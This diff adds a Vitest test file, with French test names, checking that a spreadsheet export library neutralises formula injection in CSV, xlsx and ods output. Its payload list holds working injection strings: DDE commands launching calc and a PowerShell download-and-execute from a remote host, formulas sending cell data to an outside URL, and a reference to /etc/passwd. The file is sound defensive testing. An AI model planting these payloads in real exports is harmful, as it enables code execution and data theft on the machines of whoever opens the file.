@@ -1,0 +1,93 @@
+import { describe, expect, it } from 'vitest';
+import { guardFormula, unguardFormula } from '../../src/lib/domain/formula-guard';
+import { isRefusal } from '../../src/lib/domain/issue';
+import { writeCsv } from '../../src/lib/server/exports/csv';
+import { writeGridOds } from '../../src/lib/server/files/ods-write';
+import { writeGridXlsx } from '../../src/lib/server/files/spreadsheet-grid';
+import { writeWorkbook } from '../../src/lib/server/files/spreadsheet-write';
+import { readWorkbook } from '../../src/lib/server/files/workbook';
+import { unzip } from '../fixtures/unzip';
+
+/* Payloads that circulate: a cell that a spreadsheet would run, call or fetch when someone opens our export. */
+const PAYLOADS = [
+	'=1+1',
+	"=SUM(1+1)*cmd|' /C calc'!A0",
+	"=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"+1+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	'=HYPERLINK("http://exemple.fr?x="&A1,"Cliquez")',
+	'=IMPORTXML(CONCAT("http://exemple.fr/?v=",CONCATENATE(A2:E2)),"//a/a10")',
+	"='file:///etc/passwd'#$passwd.A1",
+	'=WEBSERVICE("http://exemple.fr")',
+	'\t=1+1',
+	'\r=1+1',
+	'\n=1+1',
+	'＝1+1',
+	'＠SOMME(A1)'
+];
+const HIDDEN = ['texte;=1+1', 'texte,=1+1', 'texte"=1+1', 'texte\n=1+1', 'texte\t=1+1', 'texte|=1+1'];
+
+describe('un CSV ne porte aucune formule', () => {
+	it.each(PAYLOADS)('%j est précédé d’une apostrophe, et relu tel quel', (text) => {
+		const csv = writeCsv([['a'], [text]]);
+		expect(csv).toMatch(/\n"?'/);
+		expect(unguardFormula(guardFormula(text))).toBe(text);
+	});
+
+	it.each(HIDDEN)('%j ne peut pas se couper en deux, quel que soit le séparateur du tableur', (text) => {
+		expect(writeCsv([[text]]).trim()).toBe(`\ufeff"${text.replaceAll('"', '""')}"`.trim());
+	});
+
+	it('les nombres restent des nombres, négatifs compris', () => {
+		expect(writeCsv([[-12.5, 0, 1200, null, 'x']])).toBe('\ufeff-12,5;0;1200;;x\r\n');
+	});
+
+	it('une apostrophe qui était là y reste', () => {
+		for (const text of ["'=1", "''=1", "'", "l'eau", "'NULL", 'NULL', "'tis"])
+			expect(unguardFormula(guardFormula(text))).toBe(text);
+	});
+
+	it('le fichier relu rend les textes d’origine', async () => {
+		const texts = [...PAYLOADS, ...HIDDEN].map((t) => t.trim());
+		const bytes = new TextEncoder().encode(writeCsv([['Titre', 'Notes'], ...texts.map((t) => [t, 'x'])]));
+		const workbook = await readWorkbook(bytes, 'export.csv');
+		if (isRefusal(workbook)) throw new Error(workbook.refus);
+		expect(workbook.sheets[0]!.rows.slice(1).map((r) => r[0])).toEqual(texts);
+	});
+});
+
+describe('un classeur ne porte ni formule, ni lien, ni appel extérieur', () => {
+	const sheet = {
+		nom: 'Actions',
+		masquee: false,
+		colonnes: [{ largeur: 20, genre: 'texte' as const, couleur: null }],
+		lignes: PAYLOADS.map((text) => ({ style: 'ligne' as const, cellules: [text] })),
+		figees: { lignes: 0, colonnes: 0 },
+		menus: [],
+		filtre: false
+	};
+	const out = {
+		nom: 'Actions',
+		entete: [],
+		colonnes: [{ titre: 'Titre', genre: 'texte' as const }],
+		lignes: PAYLOADS.map((text) => [text])
+	};
+
+	it.each([
+		['modèles et exports, .xlsx', () => writeGridXlsx([sheet], '2026-11-22')],
+		['modèles et exports, .ods', () => writeGridOds([sheet], '2026-11-22')],
+		['feuille de route, .xlsx', () => writeWorkbook([out], 'xlsx', '2026-11-22')],
+		['feuille de route, .ods', () => writeWorkbook([out], 'ods', '2026-11-22')]
+	])('%s', async (_, write) => {
+		const bytes = await write();
+		const files = await unzip(bytes);
+		const all = [...files.values()].join('\n');
+		expect(all).not.toMatch(/<f[ >]|table:formula|<hyperlink|xlink:href|ddeLink|externalLink|<oleObject/);
+		expect([...files.keys()].filter((name) => /externalLinks|connections|embeddings|vba/i.test(name))).toEqual([]);
+		const workbook = await readWorkbook(bytes, 'export');
+		if (isRefusal(workbook)) throw new Error(workbook.refus);
+		const texts = workbook.sheets[0]!.rows.flat().map((cell) => String(cell).trim());
+		expect(texts).toEqual(expect.arrayContaining(PAYLOADS.map((text) => text.trim())));
+	});
+});
